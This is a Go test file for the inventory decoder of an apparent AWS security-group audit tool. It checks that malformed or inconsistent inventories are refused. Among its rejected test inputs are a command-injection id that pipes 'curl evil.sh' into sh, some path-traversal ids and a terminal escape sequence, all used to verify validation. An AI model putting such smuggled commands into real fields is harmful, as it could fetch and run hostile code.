package inventory

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/sgaudit/sgaudit/internal/jsonkeys"
)

func TestDecodeMatchesUnmarshal(t *testing.T) {
	inv := &Inventory{SchemaVersion: SchemaVersion, Source: "aws",
		Accounts: []Account{{ID: "111122223333", Partition: "aws"}},
		SecurityGroups: []SecurityGroup{
			{ID: "sg-2", AccountID: "111122223333", Region: "eu-west-1", ARN: "arn:aws:ec2:eu-west-1:111122223333:security-group/sg-2", Tags: Tags{{"env", "prod"}},
				Rules: NewRules(validRules()...), StaleRules: NewRules(validRules()[2]),
				Attachments: []Attachment{{NetworkInterfaceID: "eni-1"}}},
			{ID: "sg-1", AccountID: "111122223333", Region: "eu-west-1", ARN: "arn:aws:ec2:eu-west-1:111122223333:security-group/sg-1"},
		},
		Coverage: []Coverage{{AccountID: "111122223333", Region: "eu-west-1", Status: CoverageOK, Collected: []string{KindSecurityGroups}}},
	}
	raw, err := json.Marshal(inv)
	if err != nil {
		t.Fatal(err)
	}
	got, err := Decode(raw)
	if err != nil {
		t.Fatal(err)
	}
	var want Inventory
	if err := json.Unmarshal(raw, &want); err != nil {
		t.Fatal(err)
	}
	want.Sort()
	got.Sort()
	if diff := cmp.Diff(&want, got); diff != "" {
		t.Errorf("Decode differs from json.Unmarshal (-unmarshal +decode):\n%s", diff)
	}
}

// A bad value deep in a rule is located in the whole file.
func TestDecodeErrorOffsets(t *testing.T) {
	for _, bad := range []string{`"from_port": "22"`, `"peer": {"cidr": 10}`} {
		raw := "{\"schema_version\": \"1\",\n \"security_groups\": [\n  {\"id\": \"sg-1\", \"tags\": {\"env\": \"prod\"},\n   \"rules\": [{\"id\": \"sgr-1\", " + bad + "}]}]}"
		_, err := Decode([]byte(raw))
		var typeErr *json.UnmarshalTypeError
		if !errors.As(err, &typeErr) {
			t.Fatalf("%s: got %v, want a *json.UnmarshalTypeError", bad, err)
		}
		if line := strings.Count(raw[:typeErr.Offset], "\n") + 1; line != 4 {
			t.Errorf("%s: offset %d is on line %d, want 4", bad, typeErr.Offset, line)
		}
		if !strings.HasPrefix(typeErr.Field, "security_groups.rules.") {
			t.Errorf("%s: field %q, want it under security_groups.rules", bad, typeErr.Field)
		}
	}
	raw := "{\"security_groups\": [\n {\"tags\": {\"env\": 1}}]}"
	_, err := Decode([]byte(raw))
	var typeErr *json.UnmarshalTypeError
	if !errors.As(err, &typeErr) || typeErr.Offset < int64(strings.Index(raw, "\n")) {
		t.Errorf("bad tag value: %v, want a type error located on line 2", err)
	}
}

// inventoryJSON is a small valid inventory file with one of each list, as
// a map so that a test can break one value.
func inventoryJSON(t testing.TB, edit func(m map[string]any)) []byte {
	t.Helper()
	group := func(id, rule string) map[string]any {
		return map[string]any{
			"id": id, "account_id": account, "region": "eu-west-1", "tags": map[string]string{"env": "prod"},
			"arn": "arn:aws:ec2:eu-west-1:" + account + ":security-group/" + id,
			"rules": []map[string]any{{
				"id": rule, "direction": "ingress", "protocol": "tcp", "raw_protocol": "tcp", "from_port": 22, "to_port": 22,
				"peer": map[string]any{"kind": "cidr_ipv4", "cidr": "0.0.0.0/0"},
			}},
		}
	}
	m := map[string]any{
		"schema_version":     "1",
		"accounts":           []map[string]any{{"id": account, "partition": "aws"}},
		"coverage":           []map[string]any{{"account_id": account, "region": "eu-west-1", "status": "ok", "collected": []string{"security_groups"}}},
		"security_groups":    []map[string]any{group("sg-1", "sgr-1"), group("sg-2", "sgr-2")},
		"network_interfaces": []map[string]any{{"id": "eni-1", "account_id": account, "region": "eu-west-1", "group_ids": []string{"sg-1"}}},
		"vpcs":               []map[string]any{{"id": "vpc-1", "account_id": account, "region": "eu-west-1"}},
		"prefix_lists":       []map[string]any{{"id": pl1, "owner": "AWS", "account_id": account, "region": "eu-west-1", "entries": []map[string]any{{"cidr": "10.0.0.0/8"}}}},
	}
	if edit != nil {
		edit(m)
	}
	raw, err := json.Marshal(m)
	if err != nil {
		t.Fatal(err)
	}
	return raw
}

// TestDecodeChecksValues: issue 9 items 2 and 6 for inventory files. Every
// value below was accepted before.
func TestDecodeChecksValues(t *testing.T) {
	item := func(m map[string]any, list string, i int) map[string]any {
		return m[list].([]map[string]any)[i]
	}
	rule := func(m map[string]any) map[string]any {
		return item(m, "security_groups", 1)["rules"].([]map[string]any)[0]
	}
	tests := []struct {
		name string
		edit func(m map[string]any)
		want string
	}{
		{"account id", func(m map[string]any) { item(m, "accounts", 0)["id"] = "../../tmp/x" },
			`accounts[0]: id "../../tmp/x": an account id is exactly 12 digits`},
		{"coverage account", func(m map[string]any) { item(m, "coverage", 0)["account_id"] = "11112222333" },
			`coverage[0]: account_id "11112222333": an account id is exactly 12 digits`},
		{"group account", func(m map[string]any) {
			item(m, "security_groups", 1)["account_id"] = "１１１１２２２２３３３３"
		},
			`security_groups[1]: group sg-2: account_id "１１１１２２２２３３３３": an account id is exactly 12 digits`},
		{"interface account", func(m map[string]any) { item(m, "network_interfaces", 0)["account_id"] = "" },
			`network_interfaces[0]: account_id "": an account id is exactly 12 digits`},
		{"interface id", func(m map[string]any) { item(m, "network_interfaces", 0)["id"] = "eni-1\x1b[2J" },
			`network_interfaces[0]: id "eni-1\x1b[2J": not an id: "eni-", then only a-z, 0-9 and "-", at most 64 bytes`},
		{"interface group id", func(m map[string]any) { item(m, "network_interfaces", 0)["group_ids"] = []string{"sg-1", "../sg-2"} },
			`network_interfaces[0]: group_ids[1] "../sg-2": not an id: "sg-", then only a-z, 0-9 and "-", at most 64 bytes`},
		{"interface vpc id", func(m map[string]any) { item(m, "network_interfaces", 0)["vpc_id"] = "vpc-1;x" },
			`network_interfaces[0]: vpc_id "vpc-1;x": not an id: "vpc-", then only a-z, 0-9 and "-", at most 64 bytes`},
		{"vpc id", func(m map[string]any) { item(m, "vpcs", 0)["id"] = "sg-1" },
			`vpcs[0]: id "sg-1": not an id: "vpc-", then only a-z, 0-9 and "-", at most 64 bytes`},
		{"group id", func(m map[string]any) { item(m, "security_groups", 1)["id"] = "sg-2;curl evil.sh|sh;#" },
			`security_groups[1]: group: id "sg-2;curl evil.sh|sh;#": not an id: "sg-", then only a-z, 0-9 and "-", at most 64 bytes`},
		{"peer group id", func(m map[string]any) {
			rule(m)["peer"] = map[string]any{"kind": "security_group", "group_id": "../../../../tmp/x"}
		}, `security_groups[1]: group sg-2, rule sgr-2: peer.group_id "../../../../tmp/x": not an id: "sg-", then only a-z, 0-9 and "-", at most 64 bytes`},
		{"attachment interface id", func(m map[string]any) {
			item(m, "security_groups", 1)["attachments"] = []map[string]any{{"network_interface_id": "eni-1/x"}}
		}, `security_groups[1]: group sg-2: attachments[0].network_interface_id "eni-1/x": not an id: "eni-", then only a-z, 0-9 and "-", at most 64 bytes`},
		{"vpc account", func(m map[string]any) { item(m, "vpcs", 0)["account_id"] = "111122223333 " },
			`vpcs[0]: account_id "111122223333 ": an account id is exactly 12 digits`},
		{"prefix list account", func(m map[string]any) { item(m, "prefix_lists", 0)["account_id"] = "x" },
			`prefix_lists[0] (pl-0123456789abcdef0): account_id "x": an account id is exactly 12 digits`},
		{"prefix list entry", func(m map[string]any) {
			item(m, "prefix_lists", 0)["entries"] = []map[string]any{{"cidr": "zz::/0"}}
		}, `prefix_lists[0] (pl-0123456789abcdef0): entries[0].cidr "zz::/0": not a CIDR block`},
		{"peer owner", func(m map[string]any) {
			rule(m)["peer"] = map[string]any{"kind": "security_group", "group_id": "sg-9", "group_owner": "a/b"}
		}, `security_groups[1]: group sg-2, rule sgr-2: peer.group_owner "a/b": an account id is exactly 12 digits`},
		{"world with a trailing space", func(m map[string]any) { rule(m)["peer"] = map[string]any{"kind": "cidr_ipv4", "cidr": "0.0.0.0/0 "} },
			`security_groups[1]: group sg-2, rule sgr-2: peer.cidr "0.0.0.0/0 ": not a CIDR block`},
		{"port", func(m map[string]any) { rule(m)["to_port"] = 70000 },
			`security_groups[1]: group sg-2, rule sgr-2: to_port "70000": tcp ports are 0 to 65535 (AWS requires a port range)`},
		{"group without id", func(m map[string]any) { delete(item(m, "security_groups", 1), "id") },
			`security_groups[1]: group without id: id "": a security group needs an id`},
		{"duplicate id, other content", func(m map[string]any) {
			item(m, "security_groups", 1)["id"] = "sg-1"
			item(m, "security_groups", 1)["arn"] = item(m, "security_groups", 0)["arn"]
			rule(m)["from_port"] = 0
		}, `security_groups[0] and [1]: duplicate security group id sg-1 with different content`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			_, err := Decode(inventoryJSON(t, tt.edit))
			if err == nil {
				t.Fatal("Decode accepted it")
			}
			if diff := cmp.Diff(tt.want, err.Error()); diff != "" {
				t.Errorf("error (-want +got):\n%s", diff)
			}
		})
	}
}

// TestDecodeMergesIdenticalGroups: the same group twice in one file (two
// collect runs concatenated by hand) is kept once; see
// TestDecodeChecksValues for two that differ.
func TestDecodeMergesIdenticalGroups(t *testing.T) {
	inv, err := Decode(inventoryJSON(t, func(m map[string]any) {
		groups := m["security_groups"].([]map[string]any)
		m["security_groups"] = append(groups, groups[0])
	}))
	if err != nil {
		t.Fatal(err)
	}
	var ids []string
	for _, g := range inv.SecurityGroups {
		ids = append(ids, g.ID)
	}
	if diff := cmp.Diff([]string{"sg-1", "sg-2"}, ids); diff != "" {
		t.Errorf("groups (-want +got):\n%s", diff)
	}
}

// FuzzDecode: whatever Decode accepts is a valid inventory (every group
// passes Validate, every account id is 12 digits) and survives a round
// trip through its JSON unchanged.
func FuzzDecode(f *testing.F) {
	f.Add(inventoryJSON(f, nil))
	for _, path := range []string{"../../internal/engine/testdata/in-inventory.json"} {
		raw, err := os.ReadFile(path)
		if err != nil {
			f.Fatal(err)
		}
		if _, err := Decode(raw); err != nil {
			f.Fatalf("%s: %v", path, err) // a seed that fails tests nothing past the first check
		}
		f.Add(raw)
	}
	head := `{"accounts": [{"id": "111122223333", "partition": "aws"}], "coverage": [{"account_id": "111122223333", "region": "eu-west-1", "status": "ok", "collected": ["prefix_lists"]}], `
	group := `{"id": "sg-1", "account_id": "111122223333", "region": "eu-west-1", "arn": "arn:aws:ec2:eu-west-1:111122223333:security-group/sg-1"`
	f.Add([]byte(head + `"security_groups": [` + group + `, "rules": [{"direction": "ingress", "protocol": "all", "to_port": 65535, "peer": {"kind": "cidr_ipv6", "cidr": "::/0"}}]}]}`))
	f.Add([]byte(head + `"security_groups": [` + group + `}, ` + group + `}]}`))
	f.Add([]byte(head + `"security_groups": [` + group + `, "rules": [{"id": "sgr-1", "direction": "ingress", "protocol": "tcp", "from_port": 22, "to_port": 22, "peer": {"kind": "prefix_list", "prefix_list_id": "pl-63a5400a"}}]}], ` +
		`"prefix_lists": [{"id": "pl-63a5400a", "account_id": "111122223333", "region": "eu-west-1", "entries": [{"cidr": "::/0"}]}], "vpcs": null}`))
	f.Fuzz(func(t *testing.T, data []byte) {
		inv, err := Decode(data)
		if err != nil {
			return
		}
		if err := inv.Check(); err != nil {
			t.Fatalf("an accepted inventory fails Check: %v", err)
		}
		ids := map[string]bool{}
		arns := map[string]bool{}
		ruleIDs := map[string]bool{}
		pairs := map[string]bool{}
		for _, c := range inv.Coverage {
			switch c.Status {
			case CoverageOK, CoverageDenied, CoverageSkipped, CoverageError:
			default:
				t.Fatalf("coverage status %q accepted", c.Status)
			}
			pairs[c.AccountID+"/"+c.Region] = true
		}
		for _, g := range inv.SecurityGroups {
			if err := g.Validate(); err != nil {
				t.Fatalf("an accepted group fails Validate: %v", err)
			}
			if ids[g.ID] {
				t.Fatalf("group %s accepted twice", g.ID)
			}
			ids[g.ID] = true
			if arns[g.ARN] || !strings.HasSuffix(g.ARN, ":ec2:"+g.Region+":"+g.AccountID+":security-group/"+g.ID) {
				t.Fatalf("group %s: ARN %q accepted", g.ID, g.ARN)
			}
			arns[g.ARN] = true
			if !pairs[g.AccountID+"/"+g.Region] {
				t.Fatalf("group %s accepted without a coverage row", g.ID)
			}
			for _, r := range g.Rules.All() {
				if r.ID != "" && ruleIDs[r.ID] {
					t.Fatalf("rule id %s accepted twice", r.ID)
				}
				ruleIDs[r.ID] = true
				if r.Peer.Kind == PeerPrefixList && !ValidPrefixListID(r.Peer.PrefixListID) {
					t.Fatalf("prefix list id %q accepted", r.Peer.PrefixListID)
				}
			}
		}
		accounts := []string{}
		for _, a := range inv.Accounts {
			accounts = append(accounts, a.ID)
		}
		for _, c := range inv.Coverage {
			accounts = append(accounts, c.AccountID)
		}
		for _, n := range inv.NetworkInterfaces {
			accounts = append(accounts, n.AccountID)
		}
		for _, v := range inv.VPCs {
			accounts = append(accounts, v.AccountID)
		}
		for _, pl := range inv.PrefixLists {
			accounts = append(accounts, pl.AccountID)
			for _, e := range pl.Entries {
				if c, _, ok := CanonicalCIDR(e.CIDR); !ok || c != e.CIDR {
					t.Fatalf("prefix-list entry %q accepted", e.CIDR)
				}
			}
		}
		for _, a := range accounts {
			if !ValidAccountID(a) {
				t.Fatalf("account %q accepted", a)
			}
		}
		again, err := json.Marshal(inv)
		if err != nil {
			t.Fatalf("re-encode: %v", err)
		}
		back, err := Decode(again)
		if err != nil {
			t.Fatalf("the re-encoded inventory is refused: %v\n%s", err, again)
		}
		if diff := cmp.Diff(inv, back); diff != "" {
			t.Fatalf("round trip changed the inventory (-first +second):\n%s", diff)
		}
	})
}

// TestDecodeRefusesInconsistentInventories: issue 9 review items 1 to 5.
// Each inventory below was accepted before and hid a finding: a
// suppression of one group or rule silenced another, an account counted
// as complete, or a rule escaped SGA001.
func TestDecodeRefusesInconsistentInventories(t *testing.T) {
	item := func(m map[string]any, list string, i int) map[string]any {
		return m[list].([]map[string]any)[i]
	}
	rules := func(m map[string]any, g int) []map[string]any {
		return item(m, "security_groups", g)["rules"].([]map[string]any)
	}
	arn := func(id string) string { return "arn:aws:ec2:eu-west-1:" + account + ":security-group/" + id }
	plRule := func(id string) map[string]any {
		return map[string]any{"id": "sgr-9", "direction": "ingress", "protocol": "tcp", "from_port": 22, "to_port": 22,
			"peer": map[string]any{"kind": "prefix_list", "prefix_list_id": id}}
	}
	collected := func(m map[string]any) {
		item(m, "coverage", 0)["collected"] = []string{KindPrefixLists, KindSecurityGroups}
	}
	tests := []struct {
		name string
		edit func(m map[string]any)
		want string
	}{
		// Item 1: a group's ARN is its own.
		{"two groups with one ARN", func(m map[string]any) { item(m, "security_groups", 1)["arn"] = arn("sg-1") },
			`security_groups[1]: group sg-2: arn "` + arn("sg-1") + `": want arn:<partition>:ec2:eu-west-1:111122223333:security-group/sg-2, the group's own region, account and id`},
		{"no ARN", func(m map[string]any) { delete(item(m, "security_groups", 0), "arn") },
			`security_groups[0]: group sg-1: arn "": want arn:<partition>:ec2:eu-west-1:111122223333:security-group/sg-1, the group's own region, account and id`},
		{"ARN of another region", func(m map[string]any) {
			item(m, "security_groups", 0)["arn"] = "arn:aws:ec2:us-east-1:" + account + ":security-group/sg-1"
		}, `security_groups[0]: group sg-1: arn "arn:aws:ec2:us-east-1:111122223333:security-group/sg-1": want arn:<partition>:ec2:eu-west-1:111122223333:security-group/sg-1, the group's own region, account and id`},
		{"ARN of another account", func(m map[string]any) {
			item(m, "security_groups", 0)["arn"] = "arn:aws:ec2:eu-west-1:999988887777:security-group/sg-1"
		}, `security_groups[0]: group sg-1: arn "arn:aws:ec2:eu-west-1:999988887777:security-group/sg-1": want arn:<partition>:ec2:eu-west-1:111122223333:security-group/sg-1, the group's own region, account and id`},
		{"ARN of another partition", func(m map[string]any) {
			item(m, "security_groups", 0)["arn"] = "arn:aws-cn:ec2:eu-west-1:" + account + ":security-group/sg-1"
		}, `security_groups[0]: group sg-1: arn "arn:aws-cn:ec2:eu-west-1:111122223333:security-group/sg-1": partition aws-cn, but account 111122223333 is in partition aws`},
		{"ARN with a bad partition", func(m map[string]any) {
			item(m, "security_groups", 0)["arn"] = "arn:AWS:ec2:eu-west-1:" + account + ":security-group/sg-1"
		}, `security_groups[0]: group sg-1: arn "arn:AWS:ec2:eu-west-1:111122223333:security-group/sg-1": want arn:<partition>:ec2:eu-west-1:111122223333:security-group/sg-1, the group's own region, account and id`},
		{"group without region", func(m map[string]any) { item(m, "security_groups", 0)["region"] = "" },
			`security_groups[0]: group sg-1: region "": not a region name such as eu-west-1`},
		// Item 2: rule ids are unique.
		{"one rule id in two groups", func(m map[string]any) { rules(m, 1)[0]["id"] = "sgr-1" },
			`security_groups[1]: group sg-2, rule sgr-1: id "sgr-1": also the id of rule #1 (ingress tcp 22-22 0.0.0.0/0) of group sg-1 (security_groups[0]); AWS gives each rule an id of its own`},
		{"one rule id twice in a group", func(m map[string]any) {
			r := map[string]any{"id": "sgr-1", "direction": "ingress", "protocol": "tcp", "from_port": 8080, "to_port": 8080,
				"peer": map[string]any{"kind": "cidr_ipv4", "cidr": "0.0.0.0/0"}}
			item(m, "security_groups", 0)["rules"] = append(rules(m, 0), r)
		}, `security_groups[0]: group sg-1, rule sgr-1: id "sgr-1": also the id of rule #1 (ingress tcp 22-22 0.0.0.0/0) of group sg-1 (security_groups[0]); AWS gives each rule an id of its own`},
		{"stale rule with another rule's id", func(m map[string]any) {
			item(m, "security_groups", 1)["stale_rules"] = []map[string]any{{"id": "sgr-1", "direction": "ingress", "protocol": "tcp",
				"from_port": 22, "to_port": 22, "peer": map[string]any{"kind": "security_group", "group_id": "sg-7"}}}
		}, `security_groups[1]: group sg-2, stale rule sgr-1: id "sgr-1": the id of rule #1 (ingress tcp 22-22 0.0.0.0/0) of group sg-1 (security_groups[0]), which is another rule`},
		// Item 3: coverage is a known status of a known account, and every
		// pair holding groups has a row.
		{"status Denied", func(m map[string]any) { item(m, "coverage", 0)["status"] = "Denied" },
			`coverage[0]: status "Denied": want ok, denied, skipped or error`},
		{"status empty", func(m map[string]any) { item(m, "coverage", 0)["status"] = "" },
			`coverage[0]: status "": want ok, denied, skipped or error`},
		{"no coverage", func(m map[string]any) { m["coverage"] = []map[string]any{} },
			`security_groups[0]: group sg-1: region "eu-west-1": coverage has no row for account 111122223333 in this region; every pair that holds groups needs one`},
		{"coverage of an unlisted account", func(m map[string]any) { m["accounts"] = []map[string]any{} },
			`coverage[0]: account_id "111122223333": not an account of accounts[]`},
		{"coverage row twice", func(m map[string]any) {
			m["coverage"] = append(m["coverage"].([]map[string]any), map[string]any{"account_id": account, "region": "eu-west-1", "status": "denied"})
		}, `coverage[1]: region "eu-west-1": coverage[0] is the row of account 111122223333 in this region already`},
		// Item 4: prefix lists are well-formed, unique and found.
		{"prefix list not held", func(m map[string]any) {
			collected(m)
			item(m, "security_groups", 0)["rules"] = append(rules(m, 0), plRule("pl-0000000000000000f"))
		}, `security_groups[0]: group sg-1, rule sgr-9: peer.prefix_list_id "pl-0000000000000000f": prefix_lists holds no list of this id for account 111122223333 region eu-west-1, although its coverage says prefix lists were collected there`},
		{"prefix list of another region", func(m map[string]any) {
			collected(m)
			item(m, "prefix_lists", 0)["region"] = "us-east-1"
			item(m, "security_groups", 0)["rules"] = append(rules(m, 0), plRule(pl1))
		}, `security_groups[0]: group sg-1, rule sgr-9: peer.prefix_list_id "pl-0123456789abcdef0": prefix_lists holds no list of this id for account 111122223333 region eu-west-1, although its coverage says prefix lists were collected there`},
		{"prefix list of another account", func(m map[string]any) {
			collected(m)
			item(m, "prefix_lists", 0)["account_id"] = "999988887777"
			item(m, "security_groups", 0)["rules"] = append(rules(m, 0), plRule(pl1))
		}, `security_groups[0]: group sg-1, rule sgr-9: peer.prefix_list_id "pl-0123456789abcdef0": prefix_lists holds no list of this id for account 111122223333 region eu-west-1, although its coverage says prefix lists were collected there`},
		{"prefix list without region", func(m map[string]any) { item(m, "prefix_lists", 0)["region"] = "" },
			`prefix_lists[0] (pl-0123456789abcdef0): region "": not a region name such as eu-west-1: rules find a list by their group's account, region and the list's id`},
		{"prefix list id with a space", func(m map[string]any) {
			item(m, "security_groups", 0)["rules"] = append(rules(m, 0), plRule(pl1+" "))
		}, `security_groups[0]: group sg-1, rule sgr-9: peer.prefix_list_id "pl-0123456789abcdef0 ": not a prefix list id: "pl-" and 8 to 17 lower-case hex digits`},
		{"prefix list id in upper case", func(m map[string]any) {
			item(m, "security_groups", 0)["rules"] = append(rules(m, 0), plRule("PL-0123456789ABCDEF0"))
		}, `security_groups[0]: group sg-1, rule sgr-9: peer.prefix_list_id "PL-0123456789ABCDEF0": not a prefix list id: "pl-" and 8 to 17 lower-case hex digits`},
		{"short prefix list id", func(m map[string]any) { item(m, "prefix_lists", 0)["id"] = "pl-1" },
			`prefix_lists[0] (pl-1): id "pl-1": not a prefix list id: "pl-" and 8 to 17 lower-case hex digits`},
		{"one prefix list twice, other entries", func(m map[string]any) {
			m["prefix_lists"] = append(m["prefix_lists"].([]map[string]any), map[string]any{"id": pl1, "owner": "AWS", "account_id": account,
				"region": "eu-west-1", "entries": []map[string]any{{"cidr": "0.0.0.0/0"}}})
		}, `prefix_lists[0] and [1] (pl-0123456789abcdef0): entries "pl-0123456789abcdef0": the same list of account 111122223333 region eu-west-1 twice with different content`},
		// Item 5: no more rules than AWS holds.
		{"1,001 ingress IPv4 rules", func(m map[string]any) {
			var rs []map[string]any
			for i := range MaxRulesPerDirection + 1 {
				rs = append(rs, map[string]any{"id": fmt.Sprintf("sgr-x%d", i), "direction": "ingress", "protocol": "tcp", "from_port": 22, "to_port": 22,
					"peer": map[string]any{"kind": "cidr_ipv4", "cidr": fmt.Sprintf("%d.%d.0.0/16", 10+i/256, i%256)}})
			}
			item(m, "security_groups", 0)["rules"] = rs
		}, `security_groups[0]: group sg-1: rules "ingress": 1001 ingress IPv4 rules: AWS holds at most 1000 per group, direction and address family`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			_, err := Decode(inventoryJSON(t, tt.edit))
			if err == nil {
				t.Fatal("Decode accepted it")
			}
			if diff := cmp.Diff(tt.want, err.Error()); diff != "" {
				t.Errorf("error (-want +got):\n%s", diff)
			}
		})
	}
}

// TestDecodeAcceptsWhatAWSHolds: the limits above refuse only what AWS
// cannot hold: 1,000 ingress rules of each family, group references
// counting for both, a list referenced where it is held, a prefix-list
// rule of a pair where lists were not collected, the same list twice,
// and a stale rule carrying its own rule's id.
func TestDecodeAcceptsWhatAWSHolds(t *testing.T) {
	raw := inventoryJSON(t, func(m map[string]any) {
		g := m["security_groups"].([]map[string]any)
		var rs []map[string]any
		for i := range MaxRulesPerDirection - 1 {
			rs = append(rs,
				map[string]any{"id": fmt.Sprintf("sgr-a%d", i), "direction": "ingress", "protocol": "tcp", "from_port": 22, "to_port": 22,
					"peer": map[string]any{"kind": "cidr_ipv4", "cidr": fmt.Sprintf("%d.%d.0.0/16", 10+i/256, i%256)}},
				map[string]any{"id": fmt.Sprintf("sgr-b%d", i), "direction": "ingress", "protocol": "tcp", "from_port": 22, "to_port": 22,
					"peer": map[string]any{"kind": "cidr_ipv6", "cidr": fmt.Sprintf("2001:db8:%x::/48", i+1)}})
		}
		rs = append(rs, map[string]any{"id": "sgr-pl", "direction": "ingress", "protocol": "tcp", "from_port": 22, "to_port": 22,
			"peer": map[string]any{"kind": "prefix_list", "prefix_list_id": pl1}})
		g[0]["rules"] = rs
		g[1]["stale_rules"] = g[1]["rules"]
		m["coverage"].([]map[string]any)[0]["collected"] = []string{KindPrefixLists, KindSecurityGroups}
		pls := m["prefix_lists"].([]map[string]any)
		m["prefix_lists"] = append(pls, pls[0])
		// In us-east-1 prefix lists were not collected: nothing to find.
		m["accounts"] = append(m["accounts"].([]map[string]any), map[string]any{"id": "999988887777"})
		m["coverage"] = append(m["coverage"].([]map[string]any), map[string]any{"account_id": "999988887777", "region": "us-east-1", "status": "skipped"})
		g = append(g, map[string]any{"id": "sg-3", "account_id": "999988887777", "region": "us-east-1",
			"arn": "arn:aws-us-gov:ec2:us-east-1:999988887777:security-group/sg-3",
			"rules": []map[string]any{{"id": "sgr-3", "direction": "egress", "protocol": "all", "from_port": 0, "to_port": 65535,
				"peer": map[string]any{"kind": "prefix_list", "prefix_list_id": "pl-63a5400a"}}}})
		m["security_groups"] = g
	})
	inv, err := Decode(raw)
	if err != nil {
		t.Fatal(err)
	}
	if n := len(inv.PrefixLists); n != 1 {
		t.Errorf("%d prefix lists, want the one given twice kept once", n)
	}
}

// BenchmarkDecode decodes and checks an inventory of 10,000 groups of 10
// rules each: the cost Check adds to reading a large inventory file.
func BenchmarkDecode(b *testing.B) {
	inv := &Inventory{SchemaVersion: SchemaVersion, Accounts: []Account{{ID: account, Partition: "aws"}},
		Coverage:    []Coverage{{AccountID: account, Region: "eu-west-1", Status: CoverageOK, Collected: []string{KindPrefixLists, KindSecurityGroups}}},
		PrefixLists: []PrefixList{{ID: pl1, AccountID: account, Region: "eu-west-1", Entries: []PrefixListEntry{{CIDR: "10.0.0.0/8"}}}}}
	for g := range 10000 {
		rules := validRules()
		for i := range rules {
			rules[i].ID = fmt.Sprintf("sgr-%d-%d", g, i)
		}
		id := fmt.Sprintf("sg-%d", g)
		inv.SecurityGroups = append(inv.SecurityGroups, SecurityGroup{ID: id, AccountID: account, Region: "eu-west-1",
			ARN: "arn:aws:ec2:eu-west-1:" + account + ":security-group/" + id, Rules: NewRules(rules...)})
	}
	raw, err := json.Marshal(inv)
	if err != nil {
		b.Fatal(err)
	}
	b.SetBytes(int64(len(raw)))
	b.ReportAllocs()
	for b.Loop() {
		if _, err := Decode(raw); err != nil {
			b.Fatal(err)
		}
	}
}

// TestDecodeRefusesKeys: encoding/json keeps the last of two equal keys
// and matches keys ignoring case, so each edit below emptied a list
// of the file without a word (issue 9). Each is an ErrKey naming the key
// and its line and column.
func TestDecodeRefusesKeys(t *testing.T) {
	valid := string(inventoryJSON(t, nil))
	// One key per line, so that a line and column name one key.
	var ind bytes.Buffer
	if err := json.Indent(&ind, []byte(valid), "", " "); err != nil {
		t.Fatal(err)
	}
	base := ind.String()
	last := strings.LastIndex(base, "}")
	tests := []struct {
		name, raw, key string
		path           []string
		first          string
		unknown        bool
	}{
		{name: "top-level key twice", raw: base[:last] + ",\n\"security_groups\":[]}", key: "security_groups", first: "security_groups"},
		{name: "top-level key in another case", raw: base[:last] + ",\n\"Security_Groups\":[]}", key: "Security_Groups", first: "security_groups"},
		{name: "rules twice by case", raw: strings.Replace(base, `"rules": [`, `"rules": [], "Rules": [`, 1), key: "Rules", path: []string{"security_groups", "0"}, first: "rules"},
		{name: "rules twice", raw: strings.Replace(base, `"rules": [`, `"rules": [], "rules": [`, 1), key: "rules", path: []string{"security_groups", "0"}, first: "rules"},
		{name: "alias of a field", raw: strings.Replace(base, `"rules": [`, `"Rules": [`, 1), key: "Rules", path: []string{"security_groups", "0"}, unknown: true},
		{name: "unknown key in a rule", raw: strings.Replace(base, `"from_port": 22`, `"from_port": 22, "fromport": 1`, 1), key: "fromport", path: []string{"security_groups", "0", "rules", "0"}, unknown: true},
		{name: "unknown key in a peer", raw: strings.Replace(base, `"kind": "cidr_ipv4"`, `"kind": "cidr_ipv4", "Kind": "security_group"`, 1), key: "Kind", path: []string{"security_groups", "0", "rules", "0", "peer"}, first: "kind"},
		{name: "tag twice", raw: strings.Replace(base, `"env": "prod"`, `"env": "prod", "env": "dev"`, 1), key: "env", path: []string{"security_groups", "0", "tags"}, first: "env"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if tt.raw == base {
				t.Fatal("the edit changed nothing")
			}
			_, err := Decode([]byte(tt.raw))
			var ke *jsonkeys.Error
			if !errors.Is(err, ErrKey) || !errors.As(err, &ke) {
				t.Fatalf("Decode: %v, want an ErrKey", err)
			}
			got := struct {
				Key, First string
				Path       []string
				Unknown    bool
			}{ke.Key, ke.First, ke.Path, ke.Unknown}
			want := got
			want.Key, want.First, want.Path, want.Unknown = tt.key, tt.first, tt.path, tt.unknown
			if diff := cmp.Diff(want, got); diff != "" {
				t.Errorf("error %v (-want +got):\n%s", err, diff)
			}
			// The position is the key's: its quoted name starts there.
			lines := strings.Split(tt.raw, "\n")
			if ke.Line < 1 || ke.Line > len(lines) || !strings.HasPrefix(lines[ke.Line-1][ke.Col-1:], strconv.Quote(tt.key)) {
				t.Errorf("error %v: line %d column %d is not where %q is", err, ke.Line, ke.Col, tt.key)
			}
			if !strings.Contains(err.Error(), fmt.Sprintf("line %d column %d", ke.Line, ke.Col)) {
				t.Errorf("error %q does not name line and column", err)
			}
		})
	}
	// The same keys in two tags, differing in case, are two tags: AWS tag
	// keys are case-sensitive.
	raw := strings.Replace(base, `"env": "prod"`, `"env": "prod", "Env": "dev"`, 1)
	inv, err := Decode([]byte(raw))
	if err != nil {
		t.Fatalf("tags env and Env: %v", err)
	}
	if got := len(inv.SecurityGroups[0].Tags.Map()); got != 2 {
		t.Errorf("tags env and Env: %d tags, want 2", got)
	}
}
